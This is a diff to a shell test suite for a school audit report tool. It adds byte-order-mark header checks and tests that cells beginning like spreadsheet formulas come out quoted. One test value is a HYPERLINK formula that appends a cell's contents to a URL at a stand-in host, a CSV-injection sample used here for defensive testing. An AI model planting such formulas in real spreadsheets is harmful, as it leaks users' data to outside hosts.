@@ -8,6 +8,11 @@ cp -r good bad
 awk -F, -v OFS=, '$1 == "T0002" && !done { $3 = "Mostly"; done = 1 } 1' good/responses.csv >bad/responses.csv
 line=$(awk -F, '$1 == "T0002" { print NR; exit }' good/responses.csv)
 
+# head_is FILE COLUMNS: the table begins with a byte order mark and this header
+head_is() {
+	head -n 1 "$1" | cmp - "$(printf '\357\273\277%s\n' "$2" >head; echo head)"
+}
+
 json() {
 	python3 -c "import json, sys; d = json.load(open('$1')); sys.exit(0 if ($2) else repr($2))"
 }
@@ -31,7 +36,7 @@ PYTHON
 }
 
 rows() {
-	python3 -c "import csv; print(len(list(csv.DictReader(open('$1', newline='')))))"
+	python3 -c "import csv; print(len(list(csv.DictReader(open('$1', newline='', encoding='utf-8-sig')))))"
 }
 
 # ---- all well ----
@@ -51,11 +56,11 @@ for id in T0001 T0002 T0003 T0004; do
 done
 ok "no temporary file is left" sh -c '[ -z "$(find out -name "*.tmp" -o -name ".*" -type f)" ]'
 ok "the manifest names every file, with its hash" manifest_holds out
-ok "results.csv has the contract's columns" grep -qx 'audit,version,period,school_id,school,section,title,judgement,level,indicated,held,cap_reason,met,applicable,unanswered,coverage,status' out/results.csv
+ok "results.csv has the contract's columns" head_is out/results.csv audit,version,period,school_id,school,section,title,judgement,level,indicated,held,cap_reason,met,applicable,unanswered,coverage,status
 ok "... and a row a section" test "$(rows out/results.csv)" = 36
 ok "... in the order of schools.csv" sh -c "awk -F, 'NR > 1 { print \$4 }' out/results.csv | sort -c"
-ok "actions.csv has the contract's columns" grep -qx 'school_id,action_id,item,action,owner,support,start,due,measured,cost,success_measure,status,carried,reviewed_on,note,generated' out/actions.csv
-ok "problems.csv has its header though nothing is in it" grep -qx 'file,line,column,severity,code,school_id,value,message,hint' out/problems.csv
+ok "actions.csv has the contract's columns" head_is out/actions.csv school_id,action_id,item,action,owner,support,start,due,measured,cost,success_measure,status,carried,reviewed_on,note,generated
+ok "problems.csv has its header though nothing is in it" head_is out/problems.csv file,line,column,severity,code,school_id,value,message,hint
 ok "no text names OUT, this machine or this folder" not grep -rqIF -e "$out" -e "$(uname -n)" -e "$top" --include='*.csv' --include='*.json' out
 ok "no PDF names this folder" not grep -rqaF "$top" out
 
@@ -76,6 +81,44 @@ cp out/actions.csv year/actions.csv
 printf '*,%s\n' 'Autumn 1,2027-09-02,2027-10-22' 'Autumn 2,2027-11-01,2027-12-17' 'Spring 1,2028-01-04,2028-02-11' 'Spring 2,2028-02-21,2028-03-31' >>year/calendar.csv
 sed -i '/,202[56]-/d' year/calendar.csv
 ok "a year later, under another calendar, it is valid too" status 0 check $audit year --date 2027-11-04
+
+# ---- what a spreadsheet would run ----
+
+cp -r good formulas
+cat >formulas.py <<'PYTHON'
+import csv, sys
+texts = ["=1+1", "@SUM(1)", "-A1", "+44 20 7946 0000", "-5", "'=1+1", "''@x", "'quoted'", "a\nb", "=a\n+b", 'say "so", twice', "'\u00e9"]
+what, path = sys.argv[1:]
+if what == "write":
+    with open(path, "w", encoding="utf-8", newline="") as out:
+        table = csv.writer(out)
+        table.writerow(["school_id", "action_id", "item", "action", "owner", "due", "support", "cost", "success_measure", "note"])
+        for i, text in enumerate(texts):
+            guarded = "'" + text if text.lstrip("'")[0] in "=+-@" and text != "-5" else text
+            table.writerow(["T0001", f"a{i}", "leadership", guarded, guarded, "2027-03-25", *[guarded] * 4])
+else:
+    rows = [row for row in csv.DictReader(open(path, encoding="utf-8-sig", newline="")) if row["action_id"][1:].isdigit()]
+    for row in rows:
+        text = texts[int(row["action_id"][1:])]
+        guarded = "'" + text if text.lstrip("'")[0] in "=+-@" and text != "-5" else text
+        for column in "action", "owner", "support", "cost", "success_measure", "note":
+            assert row[column] == guarded, (row["action_id"], column, row[column])
+    assert len(rows) == len(texts), rows
+PYTHON
+python3 formulas.py write formulas/actions.csv
+ok "a plan that begins like formulas" status 0 run $audit formulas -o formulas-out --date $date --school T0001
+ok "... is written so that no spreadsheet runs it" python3 formulas.py read formulas-out/actions.csv
+ok "... and printed as it was meant" sh -c "pdftotext -layout formulas-out/T0001/action-plan.pdf - | grep -q '[^'\'']=1+1'"
+cp formulas-out/actions.csv formulas/actions.csv
+ok "fed back" status 0 run $audit formulas -o formulas-again --date $date --school T0001
+ok "... it is the same, byte by byte" cmp formulas-out/actions.csv formulas-again/actions.csv
+printf 'T0001,leadership.vision.emerging,"=HYPERLINK(""http://x/?""&A1,""ok"")",agreed,,,,,\n' >>formulas/responses.csv
+ok "a rating that is one" status 1 run $audit formulas -o formulas-out --date $date --school T0001
+ok "... stands in problems.csv guarded" grep -q ",CSV012,T0001,\"'=HYPERLINK(" formulas-out/problems.csv
+marked() {
+	for file in "$@"; do [ "$(head -c 3 "$file" | od -An -tx1)" = " ef bb bf" ] || { echo "$file"; return 1; }; done
+}
+ok "every table begins with a byte order mark" marked formulas-out/*.csv
 
 # ---- errors ----
 
